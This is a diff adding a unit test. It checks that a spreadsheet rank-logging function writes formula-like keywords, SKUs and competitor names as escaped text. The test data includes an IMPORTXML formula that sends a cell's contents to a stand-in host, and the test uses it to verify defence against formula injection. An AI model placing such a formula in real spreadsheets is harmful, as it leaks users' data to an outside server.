@@ -51,6 +51,31 @@ describe('addTodaysRankRows', () => {
     );
   });
 
+  it('copies a keyword, SKU or competitor that reads like a formula as text, never as a formula', () => {
+    const exfiltrate = '=IMPORTXML("https://x.example/?q="&A1,"//a")';
+    const { world, sheet } = logSheet([
+      ['2026-11-25', '+MAT-01', 'placeholder', '@core', 9, '-B0AAA', 8],
+    ]);
+    // The keyword cell holds that text (typed with a leading apostrophe), not a formula.
+    sheet.cellFor(2, 3).value = exfiltrate;
+    addTodaysRankRows(world.services, NOW);
+    // What the sheet shows is what the seller typed; no cell of the new row holds a formula.
+    expect(sheet.valuesUncounted()[2]).toEqual([
+      '2026-11-26',
+      '+MAT-01',
+      exfiltrate,
+      '@core',
+      '',
+      '-B0AAA',
+      '',
+    ]);
+    expect(sheet.formulaCells()).toEqual([]);
+    const written = world.calls.calls.find((call) => call.method === 'setValues')?.args[0];
+    expect(written).toEqual([
+      ['2026-11-26', "'+MAT-01", `'${exfiltrate}`, "'@core", '', "'-B0AAA", ''],
+    ]);
+  });
+
   it('adds nothing the second time the same day', () => {
     const { world, sheet } = logSheet([['2026-11-25', 'MAT-01', 'yoga mat', 'core', 9]]);
     addTodaysRankRows(world.services, NOW);
